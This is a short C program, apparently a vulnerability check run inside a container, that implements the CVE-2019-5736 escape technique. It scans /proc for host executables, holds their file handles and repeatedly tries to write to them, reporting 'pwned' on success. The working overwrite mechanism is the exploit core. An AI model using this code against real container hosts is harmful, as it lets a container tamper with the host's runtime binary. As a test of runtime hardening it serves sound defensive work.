// Inside a container: waits for a program of the host's to show at /proc/PID/exe, keeps it open without reading it, and tries to
// write to it for as long as it takes (CVE-2019-5736). Says what it saw; `pwned` where it could write.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int count, char **arguments) {
    const double end = now() + (count > 1 ? atof(arguments[1]) : 3);
    int held[64], holds = 0, seen = 0;
    printf("up\n");
    fflush(stdout);
    while (now() < end) {
        for (int pid = 2; pid < 2000; pid++) {
            char path[64], target[512];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            const ssize_t size = readlink(path, target, sizeof target - 1);
            if (size < 0) {
                if (errno == ENOENT && pid > 300) break;
                continue;
            }
            target[size] = 0;
            // What is not of the image is the host's.
            if (strncmp(target, "/bin/", 5) == 0) continue;
            seen++;
            if (holds < 64) {
                const int fd = open(path, O_PATH | O_CLOEXEC);
                if (fd < 0) continue;
                // It may have executed a program of the image's in between.
                snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                const ssize_t length = readlink(path, target, sizeof target - 1);
                if (length < 0 || strncmp(target, "/bin/", 5) == 0) close(fd);
                else held[holds++] = fd;
            }
        }
        for (int i = 0; i < holds; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            const int fd = open(path, O_WRONLY);
            if (fd < 0) continue;
            if (write(fd, "pwned", 5) == 5) { printf("pwned\n"); return 1; }
        }
    }
    printf("saw %d, held %d, wrote none\n", seen, holds);
    return 0;
}
